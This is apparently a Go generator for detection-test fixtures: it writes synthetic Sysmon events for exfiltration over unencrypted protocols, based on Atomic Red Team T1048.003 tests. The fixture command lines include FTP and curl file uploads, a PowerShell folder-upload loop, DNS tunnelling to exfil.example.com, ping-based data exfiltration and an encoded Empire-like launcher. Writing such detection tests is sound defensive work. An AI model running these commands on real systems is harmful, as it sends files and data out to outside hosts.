//go:build ignore

// gen writes the Sysmon fixtures of this folder as Splunk indexes them (sourcetype
// XmlWinEventLog:Microsoft-Windows-Sysmon/Operational: one XML event a line), from the Atomic
// Red Team tests of T1048.003 and the seed's own test list:
//
//	cd detect/unencrypted && go run testdata/gen.go testdata
//
// fire.xml: one event per branch that the seed reports, on host WIN-ATOMIC (192.168.56.10):
//   - FTP by image: ftp.exe -s:ftp_script.txt (the seed's test 1) and its connection to 127.0.0.1:21;
//   - FTP by command line: the MAZE FTP upload (Atomic T1048.003 #6), powershell with ftp://;
//   - curl.exe --upload-file ... http://127.0.0.1:8080/upload (the seed's test 2): FTP and
//     HTTP_Upload both match (--upload-file is in the seed's FTP expression too), so FTP with
//     SuspicionScore 2;
//   - HTTP_Upload: curl.exe -F file=@... http://198.51.100.7/upload.php;
//   - DNS_Tunnel: nslookup.exe with a long base64 label (the seed's test 3);
//   - SMTP: Send-MailMessage -Attachments -SmtpServer (Atomic T1048.003 #5);
//   - Plaintext_Network: updater.exe to 198.51.100.80:80 (public) three times;
//   - a renamed ftp.exe (Image winupd.exe, OriginalFileName ftp.exe: beyond the seed).
//
// quiet.xml: what the seed leaves alone, one per branch: an ICMP ping exfiltration (Atomic #2),
// Invoke-WebRequest -Method POST (Atomic #4: not curl/wget), curl.exe -F to an https:// URL, Resolve-DnsName, Get-Help Send-MailMessage (a mailer without attachment or
// recipient), chrome.exe to 198.51.100.80:80 (a browser), powershell.exe to 198.51.100.80:443
// (not a plaintext port) and the Empire-like powershell.exe to 10.10.10.5:80 (private: reported
// only when the config calls 10.10.10.0/24 external).
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/sluice-hunt/sluice/source/winevent"
	"github.com/sluice-hunt/sluice/synth"
)

const host = "WIN-ATOMIC"
const ip = "192.168.56.10"

var (
	t0       = time.Date(2026, 3, 3, 14, 0, 0, 0, time.UTC)
	explorer = synth.SysmonProc{GUID: "5AB40FD1-0000-0000-0001-000000000001", PID: 4200, Image: `C:\Windows\explorer.exe`}
	cmd      = synth.SysmonProc{GUID: "5AB40FD1-0000-0000-0001-000000000002", PID: 4301, Image: `C:\Windows\System32\cmd.exe`, CommandLine: `"C:\Windows\system32\cmd.exe"`}
	psParent = synth.SysmonProc{GUID: "5AB40FD1-0000-0000-0001-000000000003", PID: 4302, Image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, CommandLine: `"powershell.exe"`}
	n        = 0
)

func proc(image, cmdline string, parent synth.SysmonProc) synth.SysmonProc {
	n++
	return synth.SysmonProc{Computer: host, GUID: fmt.Sprintf("5AB40FD1-0000-0000-0002-%012d", n), PID: 5000 + n, Image: image,
		CommandLine: cmdline, User: `WIN-ATOMIC\analyst`, ParentGUID: parent.GUID, ParentPID: parent.PID, ParentImage: parent.Image,
		ParentCommandLine: parent.CommandLine}
}

func at(min int) time.Time { return t0.Add(time.Duration(min) * time.Minute) }

const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

func main() {
	dir := os.Args[1]
	var fire, quiet []winevent.Record

	ftp := proc(`C:\Windows\System32\ftp.exe`, `ftp  -s:C:\Users\analyst\AppData\Local\Temp\ftp_script.txt`, cmd)
	fire = append(fire, synth.SysmonProcess(ftp, at(1)), synth.SysmonConnect(ftp, at(1).Add(time.Second), "tcp", "127.0.0.1", 50101, "127.0.0.1", 21))
	maze := proc(ps, `powershell.exe & {$Dir_to_copy = "$env:windir\temp"; $ftp = "ftp://127.0.0.1/"; $web_client = New-Object System.Net.WebClient; `+
		`$web_client.Credentials = New-Object System.Net.NetworkCredential('', ''); foreach($file in (dir $Dir_to_copy "*.7z")) `+
		`{ $uri = New-Object System.Uri($ftp+$file.name); $web_client.UploadFile($uri, $file.FullName) }}`, cmd)
	fire = append(fire, synth.SysmonProcess(maze, at(3)))
	curl := proc(`C:\Windows\System32\curl.exe`, `curl.exe --upload-file C:\Users\analyst\AppData\Local\Temp\exfil.txt http://127.0.0.1:8080/upload`, cmd)
	fire = append(fire, synth.SysmonProcess(curl, at(5)), synth.SysmonConnect(curl, at(5).Add(time.Second), "tcp", "127.0.0.1", 50102, "127.0.0.1", 8080))
	form := proc(`C:\Windows\System32\curl.exe`, `curl.exe -F file=@C:\Users\analyst\Documents\q3.xlsx http://198.51.100.7/upload.php`, cmd)
	fire = append(fire, synth.SysmonProcess(form, at(6)))
	nslookup := proc(`C:\Windows\System32\nslookup.exe`, `nslookup.exe `+strings.Repeat("VGhpcyBpcyBzZWNyZXQgZGF0YQ", 2)+`.exfil.example.com`, psParent)
	fire = append(fire, synth.SysmonProcess(nslookup, at(7)))
	mail := proc(ps, `powershell.exe & {Send-MailMessage -From test@corp.com -To test@corp.com -Subject "T1048.003 Atomic Test" `+
		`-Attachments C:\Windows\System32\notepad.exe -SmtpServer 127.0.0.1}`, cmd)
	fire = append(fire, synth.SysmonProcess(mail, at(9)))
	upd := proc(`C:\Users\analyst\AppData\Local\Temp\updater.exe`, `C:\Users\analyst\AppData\Local\Temp\updater.exe /silent`, explorer)
	fire = append(fire, synth.SysmonProcess(upd, at(11)))
	for i := range 3 {
		fire = append(fire, synth.SysmonConnect(upd, at(11+i), "tcp", ip, 50110+i, "198.51.100.80", 80))
	}
	renamed := proc(`C:\Users\analyst\Downloads\winupd.exe`, `winupd.exe -s:C:\Users\analyst\Downloads\cmds.txt`, cmd)
	renamed.OriginalFileName = "ftp.exe"
	fire = append(fire, synth.SysmonProcess(renamed, at(15)))

	ping := proc(ps, `powershell.exe & {$ping = New-Object System.Net.Networkinformation.ping; foreach($Data in Get-Content -Path C:\Windows\System32\notepad.exe `+
		`-Encoding Byte -ReadCount 1024) { $ping.Send("127.0.0.1", 1500, $Data) }}`, cmd)
	iwr := proc(ps, `powershell.exe & {$content = Get-Content C:\Windows\System32\notepad.exe; Invoke-WebRequest -Uri 127.0.0.1 -Method POST -Body $content}`, cmd)
	curls := proc(`C:\Windows\System32\curl.exe`, `curl.exe -F file=@C:\temp\report.pdf https://files.example.com/upload`, cmd)
	rdn := proc(ps, `powershell.exe Resolve-DnsName -Name www.example.com`, cmd)
	help := proc(ps, `powershell.exe Get-Help Send-MailMessage -Full`, cmd)
	chrome := proc(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, explorer)
	tls := proc(ps, `powershell.exe -c "iwr https://198.51.100.80/"`, cmd)
	empire := proc(ps, `powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBlAHIA`, cmd)
	quiet = append(quiet, synth.SysmonProcess(ping, at(20)), synth.SysmonProcess(iwr, at(21)), synth.SysmonProcess(curls, at(22)),
		synth.SysmonProcess(rdn, at(23)), synth.SysmonProcess(help, at(24)), synth.SysmonProcess(chrome, at(25)),
		synth.SysmonConnect(chrome, at(25).Add(time.Second), "tcp", ip, 50200, "198.51.100.80", 80),
		synth.SysmonProcess(tls, at(26)), synth.SysmonConnect(tls, at(26).Add(time.Second), "tcp", ip, 50201, "198.51.100.80", 443),
		synth.SysmonProcess(empire, at(27)))
	for i := range 5 {
		quiet = append(quiet, synth.SysmonConnect(empire, at(27).Add(time.Duration(5*i+1)*time.Second), "tcp", ip, 50300+i, "10.10.10.5", 80))
	}
	write(filepath.Join(dir, "fire.xml"), fire)
	write(filepath.Join(dir, "quiet.xml"), quiet)
}

func write(path string, rs []winevent.Record) {
	var b strings.Builder
	for _, r := range rs {
		b.WriteString(synth.WinXML(r))
		b.WriteString("\n")
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		panic(err)
	}
	fmt.Fprintf(os.Stderr, "%s: %d events\n", path, len(rs))
}
